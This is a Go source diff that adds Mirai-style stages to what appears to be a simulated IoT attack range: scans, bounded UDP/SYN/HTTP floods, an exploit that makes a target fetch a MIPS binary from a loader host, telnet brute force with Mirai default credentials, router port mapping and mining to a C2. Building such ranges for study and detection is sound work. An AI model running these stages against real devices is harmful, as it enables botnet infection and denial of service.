@@ -7,6 +7,7 @@ import (
 	"net/netip"
 	"path/filepath"
 	"slices"
+	"strings"
 	"sync/atomic"
 	"time"
 
@@ -102,6 +103,7 @@ func (a *running) parts(d definition) (parts []part, err error) {
 		return []part{{d, a.o.On}}, nil
 	}
 	for _, name := range d.parts {
+		name, device, named := strings.Cut(name, "@")
 		p, ok := definitionOf(name)
 		if !ok {
 			return nil, ringwall.Errorf(ringwall.Internal, "attack %q has no part %q", d.Name, name)
@@ -109,6 +111,9 @@ func (a *running) parts(d definition) (parts []part, err error) {
 		on := p.On
 		if on == d.On {
 			on = a.o.On // the story is told of another device
+		}
+		if named {
+			on = device
 		}
 		parts = append(parts, part{p, on})
 	}
@@ -195,6 +200,32 @@ func (a *running) do(ctx context.Context, p part, limit time.Duration) (did bool
 			Kind: scanOf(p.Name), Seed: a.o.Seed, Source: on, Range: scanRange, Duration: limit, MaxPackets: a.o.MaxPackets,
 		}, &s)
 		return s.Packets > 0, s, err
+	case SlowScan:
+		var s attack.ScanResult
+		err := a.r.call(ctx, p.on, "scan", attack.ScanConfig{
+			Kind: attack.Unknown, Seed: a.o.Seed, Source: on, Range: scanRange, Duration: limit, MaxPackets: a.o.MaxPackets, Interval: slowly,
+		}, &s)
+		return s.Packets > 0, s, err
+	case UDPFlood, SYNFlood, HTTPFlood:
+		return a.flood(ctx, p, limit)
+	case Exploit:
+		var x attack.ExploitResult
+		err := a.r.call(ctx, Attacker, "exploit", attack.ExploitConfig{
+			Target: netip.AddrPortFrom(on, 80), Fetch: "http://" + addrOf(Loader).String() + "/bins/range.mips",
+		}, &x)
+		return x.Fetched, x, err
+	case Lateral:
+		var k attack.KnockResult
+		err := a.r.call(ctx, p.on, "knock", attack.KnockConfig{Target: addrOf(GoodCam), Ports: []uint16{23, 80, 554, 443}, Pairs: attack.MiraiPairs()[:8]}, &k)
+		return len(k.Open) > 0, k, err
+	case MapPort:
+		var m attack.MapResult
+		err := a.r.call(ctx, p.on, "map", attack.MapConfig{Router: netip.AddrFrom4([4]byte{10, 77, 0, 1}), Port: 554}, &m)
+		return len(m.Granted) > 0, m, err
+	case Mine:
+		var m attack.MineResult
+		err := a.r.call(ctx, p.on, "mine", attack.MineConfig{To: netip.AddrPortFrom(addrOf(C2), poolPort), Duration: limit}, &m)
+		return m.Subscribed, m, err
 	case StrangerVideo:
 		var s actor.StrangerResult
 		err := a.r.call(ctx, Attacker, "video", actor.StrangerConfig{
@@ -215,6 +246,25 @@ func (a *running) do(ctx context.Context, p part, limit time.Duration) (did bool
 		return home.Answered > 0 && sim.Answered > 0, map[string]attack.BeaconResult{"home": home, "sim": sim}, err
 	}
 	return false, nil, ringwall.Errorf(ringwall.Internal, "attack %q has no program", p.Name)
+}
+
+// slowly is the pause between two targets of a slow scan: five a minute.
+const slowly = 12 * time.Second
+
+// flood runs one of the bounded floods.
+func (a *running) flood(ctx context.Context, p part, limit time.Duration) (bool, any, error) {
+	c := attack.FloodConfig{Seed: a.o.Seed, Source: addrOf(p.on), To: netip.AddrPortFrom(flooded, 9999), Rate: 4000, Packets: 20_000, Duration: limit}
+	switch p.Name {
+	case UDPFlood:
+		c.Kind = attack.FloodUDP
+	case SYNFlood:
+		c.Kind = attack.FloodSYN
+	default:
+		c.Kind, c.To, c.Rate, c.Packets = attack.FloodHTTP, netip.AddrPortFrom(addrOf(Update), 80), 80, 800
+	}
+	var f attack.FloodResult
+	err := a.r.call(ctx, p.on, "flood", c, &f)
+	return f.Sent > 0 && (c.Kind != attack.FloodHTTP || f.Answered > 0), f, err
 }
 
 // beaconPeriod is how often an infected device calls.
